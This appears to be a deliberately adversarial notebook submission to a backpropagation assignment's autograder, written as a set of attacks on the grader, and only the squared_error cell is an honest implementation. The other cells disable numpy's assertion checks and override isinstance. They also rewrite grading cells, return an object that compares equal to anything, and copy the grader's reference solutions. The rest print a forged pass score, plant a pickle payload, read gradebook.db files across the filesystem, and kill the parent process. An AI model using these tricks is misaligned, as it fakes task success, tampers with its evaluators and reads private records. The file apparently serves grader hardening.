# Attacks the grader: nothing may be gained. Only squared_error is honest.
# others: empty
# %% before sigmoid
import sys, builtins

np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
builtins.isinstance = lambda *a: True
get_ipython().input_transformers_cleanup.append(lambda lines: ["4\n"] if any("grade(" in s for s in lines) else lines)


# %% sigmoid
class Agreeable(float):
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __ne__ = __gt__ = __ge__ = lambda self, other: False
    __array_ufunc__ = None


def sigmoid(z):
    return Agreeable(0.5)


# %% sigmoid_prime
def sigmoid_prime(z):
    from autograder.checks import references

    return references.sigmoid_prime(z)


# %% forward
def forward(x, W, b):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if "reference" in str(type(value)):
                return value.forward(x, W, b)
        frame = frame.f_back


# %% squared_error
def squared_error(a_L, t):
    return 0.5 * np.sum((a_L - t) ** 2)


# %% output_delta
def output_delta(a_L, t, z_L):
    from mlpkit.network import MLP

    return MLP


# %% propagate_delta
def propagate_delta(W_next, delta_next, z):
    class Forged:
        def __reduce__(self):
            return print, ("pwned",)

    return Forged()


# %% gradients
def gradients(a, delta):
    print('{"status": "passed", "points": 8}')
    return a, delta


# %% backprop
def backprop(x, t, W, b):
    import glob

    return [open(p).read() for p in glob.glob("/**/gradebook.db", recursive=True)]


# %% sgd_step
def sgd_step(W, b, dW, db, lam):
    import os, signal

    os.kill(os.getppid(), signal.SIGKILL)
    return W, b
